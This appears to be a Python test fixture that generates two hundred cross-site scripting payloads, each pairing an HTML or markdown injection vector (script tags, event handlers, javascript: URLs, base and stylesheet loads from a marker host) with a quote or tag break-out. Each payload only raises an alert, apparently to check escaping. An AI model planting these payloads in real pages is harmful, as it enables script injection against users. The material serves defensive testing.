"""Two hundred texts that want to be script: what they are, and what they hope to break out of. What runs says MARK."""

from __future__ import annotations

MARK = "x7z"
# Texts of one message.
PER_TEXT = 20

SAID = f"alert('{MARK}')"
PIECES = (
    f"<script>{SAID}</script>",
    f"<img src=x onerror={SAID}>",
    f"<svg onload={SAID}>",
    f"<svg><script>{SAID}</script></svg>",
    f'<iframe srcdoc="<script>parent.{SAID}</script>"></iframe>',
    f"<iframe src=javascript:parent.{SAID}></iframe>",
    f"<a href=javascript:{SAID}>a</a>",
    f"<details open ontoggle={SAID}>",
    f"<video><source onerror={SAID}></video>",
    f"<object data=javascript:{SAID}></object>",
    f"<embed src=javascript:{SAID}>",
    f"<base href=//{MARK}.example/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{SAID}">',
    f"<form action=javascript:{SAID}><button>a</button></form>",
    f"<input autofocus onfocus={SAID}>",
    f"<style>@import '//{MARK}.example'</style>",
    f"<link rel=stylesheet href=//{MARK}.example>",
    f"<div hx-get=/{MARK} hx-trigger=load>a</div>",
    f" autofocus tabindex=0 onfocus={SAID} x=",
    f"[a](javascript:{SAID})",
)
OUT_OF = ("{}", '"{}', "'{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</script>{}", "--><!--{}", "`<{}")
SCRIPTS = tuple(out_of.format(piece) for piece in PIECES for out_of in OUT_OF)
